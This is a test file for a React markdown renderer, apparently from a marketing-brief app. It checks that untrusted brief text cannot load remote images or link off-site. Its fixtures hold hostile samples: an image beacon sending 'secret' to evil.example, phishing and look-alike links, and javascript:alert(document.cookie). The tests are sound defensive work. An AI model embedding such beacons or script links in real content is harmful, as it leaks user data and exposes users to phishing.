import { describe, expect, it } from "vitest";
import { render } from "@testing-library/react";
import BriefMarkdown from "./BriefMarkdown";

/**
 * A brief is data from outside (a model, a web page through a strategy, the user's own edits):
 * images only from this app's /api/media/, links only to the brand's own site the user typed
 * (ARCHITECTURE 2; issue 12, item 1).
 */

function renderBrief(content: string, brandSite?: string) {
  const { container } = render(<BriefMarkdown content={content} brandSite={brandSite} />);
  return container;
}

describe("BriefMarkdown", () => {
  it("shows a remote image as its alt text, never as an image", () => {
    const view = renderBrief("Before ![a beacon](https://evil.example/collect?q=secret) after");
    expect(view.querySelector("img")).toBeNull();
    expect(view.textContent).toContain("Before a beacon after");
    expect(view.innerHTML).not.toContain("evil.example");
  });

  it("treats protocol-relative, data and reference-style images the same way", () => {
    const view = renderBrief(
      [
        "![one](//evil.example/api/media/x)",
        "![two](data:image/png;base64,AAAA)",
        "![three][beacon]",
        "",
        "[beacon]: https://evil.example/ref.gif",
      ].join("\n"),
    );
    expect(view.querySelector("img")).toBeNull();
    expect(view.textContent).toContain("one");
    expect(view.textContent).toContain("three");
    expect(view.innerHTML).not.toContain("evil.example");
  });

  it("shows images of this app's own /api/media/", () => {
    const view = renderBrief("![The key visual](/api/media/abc123)");
    const image = view.querySelector("img");
    expect(image).not.toBeNull();
    expect(image?.getAttribute("src")).toBe("/api/media/abc123");
    expect(image?.getAttribute("alt")).toBe("The key visual");
  });

  it("shows a link to another site as its text, with no anchor", () => {
    const view = renderBrief(
      "[Verify your account](https://phish.example/login)",
      "https://northbound.coffee",
    );
    expect(view.querySelector("a")).toBeNull();
    expect(view.textContent).toBe("Verify your account");
  });

  it("links to the brand's own site, opening it safely in a new tab", () => {
    const view = renderBrief(
      "[Our shop](https://www.northbound.coffee/shop) and [home](http://northbound.coffee/)",
      "northbound.coffee",
    );
    const links = view.querySelectorAll("a");
    expect(links).toHaveLength(2);
    for (const link of links) {
      expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
      expect(link.getAttribute("target")).toBe("_blank");
    }
    expect(links[0].getAttribute("href")).toBe("https://www.northbound.coffee/shop");
    expect(links[0].textContent).toBe("Our shop");
  });

  it("links nothing when the user typed no site", () => {
    const view = renderBrief("[Our shop](https://northbound.coffee/shop)");
    expect(view.querySelector("a")).toBeNull();
    expect(view.textContent).toBe("Our shop");
  });

  it("does not link look-alike hosts, credentials, other schemes or relative paths", () => {
    const view = renderBrief(
      [
        "[a](https://northbound.coffee.evil.example/)",
        "[b](https://evilnorthbound.coffee/)",
        "[c](https://northbound.coffee@phish.example/)",
        "[d](https://user:pw@northbound.coffee/)",
        "[e](javascript:alert(1))",
        "[f](mailto:hi@northbound.coffee)",
        "[g](/settings)",
        "[h](ftp://northbound.coffee/)",
      ].join(" "),
      "https://northbound.coffee/",
    );
    expect(view.querySelector("a")).toBeNull();
    expect(view.textContent).toBe("a b c d e f g h");
  });

  it("shows bare and angle-bracket autolinks to other hosts as text", () => {
    const view = renderBrief(
      "Go to https://evil.example/x or www.phish.example or <https://phish.example/auto>.",
      "northbound.coffee",
    );
    expect(view.querySelector("a")).toBeNull();
    expect(view.textContent).toContain("https://evil.example/x");
  });

  it("shows a javascript: URL as text", () => {
    const view = renderBrief("[Click](javascript:alert(document.cookie))", "northbound.coffee");
    expect(view.querySelector("a")).toBeNull();
    expect(view.textContent).toBe("Click");
  });

  it("still skips raw HTML", () => {
    const view = renderBrief(
      'Hi <img src="https://evil.example/b.gif"> <a href="https://phish.example">x</a>',
    );
    expect(view.querySelector("img, a")).toBeNull();
  });
});
